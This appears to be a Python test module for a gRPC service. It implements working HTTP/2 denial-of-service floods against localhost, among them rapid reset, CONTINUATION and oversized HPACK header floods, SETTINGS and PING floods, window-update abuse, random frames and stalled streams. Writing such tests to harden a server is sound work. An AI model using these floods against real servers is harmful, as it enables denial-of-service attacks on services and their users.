"""Attacks by frames of HTTP/2 that no client library sends. As call_attacks."""

import contextlib
import random
import select
import socket
import threading

import hpack
import samples
from bare_http2 import framed
from client import SERVICE

MEBIBYTE = 1 << 20
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
FRAME_BYTES = 16384
CONNECTIONS = 16
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CALL = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", f"/{SERVICE.full_name}/ApplyRotary".encode()),
        (b":authority", b"test"), (b"content-type", b"application/grpc"), (b"te", b"trailers")]


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def block(headers):
    """A header block that does not depend on the blocks before it."""
    return hpack.Encoder().encode([(name, value, True) for name, value in headers], huffman=False)


def headers_of(stream, path):
    """The frame that begins a call."""
    headers = [(name, path.encode() if name == b":path" else value) for name, value in CALL]
    return frame(HEADERS, END_HEADERS, stream, block(headers))


def call(stream, path, message):
    """The frames of a call with one message."""
    return headers_of(stream, path) + frame(DATA, END_STREAM, stream, framed(message))


def read_ends(received, count):
    """Reads frames of a file until so many streams have ended. A reset without an error follows the end of a call that was
    refused before its message was read."""
    while count:
        head = received.read(9)
        if len(head) < 9:
            raise ConnectionError("the connection ended")
        payload = received.read(int.from_bytes(head[:3], "big"))
        count -= head[3] == RST_STREAM and any(payload) or head[3] in (DATA, HEADERS) and head[4] & END_STREAM


def read_messages(received, count):
    """Reads frames of a file until so many messages of its one stream have come, with the last of which a frame ends."""
    data = b""
    while count:
        head = received.read(9)
        payload = received.read(int.from_bytes(head[:3], "big")) if len(head) == 9 else b""
        if len(head) < 9 or head[3] == RST_STREAM or head[3] in (DATA, HEADERS) and head[4] & END_STREAM:
            raise ConnectionError("the stream ended")
        if head[3] == DATA:
            data += payload
        while len(data) >= 5 and len(data) >= (end := 5 + int.from_bytes(data[1:5], "big")):
            data = data[end:]
            count -= 1


def connect(port, number):
    """Attackers have addresses of their own; 127.0.0.1 is another caller's."""
    connection = socket.create_connection(("127.0.0.1", port), 5, (f"127.0.0.{2 + number}", 0))
    connection.sendall(PREFACE + frame(SETTINGS))
    return connection


def flood(port, stop, make, reads=False):
    """Sends what the iterator make() gives on four connections. Connects again whenever one ends."""
    def run(number):
        while not stop.is_set():
            with contextlib.suppress(OSError), connect(port, number) as connection:
                for data in make():
                    connection.sendall(data)
                    while reads and select.select([connection], [], [], 0)[0] and connection.recv(MEBIBYTE):
                        pass
                    if stop.is_set():
                        break
            stop.wait(0.01)
    return [threading.Thread(target=run, args=(number,)) for number in range(4)]


def repeated(*data):
    while True:
        yield from data


def rapid_reset(port, stop):
    """Calls that are reset at once."""
    headers = block(CALL)

    def make():
        for begin in range(1, 1 << 31, 200):
            yield b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, bytes((0, 0, 0, 8)))
                           for stream in range(begin, begin + 200, 2))
    return flood(port, stop, make, reads=True)


def continuation_flood(port, stop):
    """Headers without an end, in CONTINUATION frames."""
    more = frame(CONTINUATION, 0, 1, block([(b"x", b"y")] * (FRAME_BYTES // 5)))

    def make():
        yield frame(HEADERS, 0, 1, block(CALL))
        yield from repeated(more * 16)
    return flood(port, stop, make)


def hpack_continuation(port, stop):
    """One header of 64 MiB, in CONTINUATION frames."""
    size = 64 * MEBIBYTE
    begin = block(CALL) + b"\0\1x" + hpack.hpack.encode_integer(size, 7)
    more = frame(CONTINUATION, 0, 1, b"y" * FRAME_BYTES)

    def make():
        yield frame(HEADERS, 0, 1, bytes(begin))
        for _ in range(size // FRAME_BYTES // 16):
            yield more * 16
        yield frame(CONTINUATION, END_HEADERS, 1)
    return flood(port, stop, make)


def settings_flood(port, stop):
    """SETTINGS whose acknowledgements are not read."""
    return flood(port, stop, lambda: repeated(frame(SETTINGS) * 1000))


def ping_flood(port, stop):
    """Pings whose answers are not read."""
    return flood(port, stop, lambda: repeated(frame(PING, 0, 0, bytes(8)) * 1000))


def empty_data(port, stop):
    """DATA frames without data."""
    def make():
        yield frame(HEADERS, END_HEADERS, 1, block(CALL))
        yield from repeated(frame(DATA, 0, 1) * 1000)
    return flood(port, stop, make, reads=True)


def window_updates(port, stop):
    """Windows that grow by one byte at a time."""
    def make():
        yield frame(HEADERS, END_HEADERS, 1, block(CALL))
        yield from repeated(frame(WINDOW_UPDATE, 0, 1, bytes((0, 0, 0, 1))) * 1000)
    return flood(port, stop, make, reads=True)


def random_frames(port, stop):
    """Frames of random types, flags, streams and contents."""
    chance = random.Random(1)

    def make():
        for _ in range(100):
            yield frame(chance.randrange(12), chance.randrange(256), chance.randrange(4), chance.randbytes(chance.randrange(40)))
    return flood(port, stop, make, reads=True)


def unfinished_calls(port, stop):
    """As many calls as a source may have, which do not end."""
    headers = block(CALL)

    def run(number):
        with contextlib.ExitStack() as stack:
            for _ in range(CONNECTIONS):
                if stop.is_set():
                    break
                with contextlib.suppress(OSError):
                    connection = stack.enter_context(connect(port, number))
                    for stream in range(1, 64, 2):
                        connection.sendall(frame(HEADERS, END_HEADERS, stream, headers) +
                                           frame(DATA, 0, stream, bytes(FRAME_BYTES)) * 2)
            stop.wait()
    return [threading.Thread(target=run, args=(number,)) for number in range(4)]


def unread_tables(port, stop):
    """Calls of one address, as many as it may have, whose answers are not read."""
    path, table = f"/{SERVICE.full_name}/GenerateTable", samples.table(count=2048, rotary_dim=128)
    calls = b"".join(call(stream, path, table) for stream in range(1, 64, 2))

    def run():
        with contextlib.ExitStack() as stack:
            for _ in range(CONNECTIONS):
                with contextlib.suppress(OSError):
                    connection = stack.enter_context(connect(port, 0))
                    connection.sendall(frame(SETTINGS, 0, 0, b"\0\4" + bytes(4)) + calls)  # no bytes of an answer
            stop.wait()
    return [threading.Thread(target=run)]


ATTACKS = (rapid_reset, continuation_flood, hpack_continuation, settings_flood, ping_flood, empty_data, window_updates,
           random_frames, unfinished_calls, unread_tables)
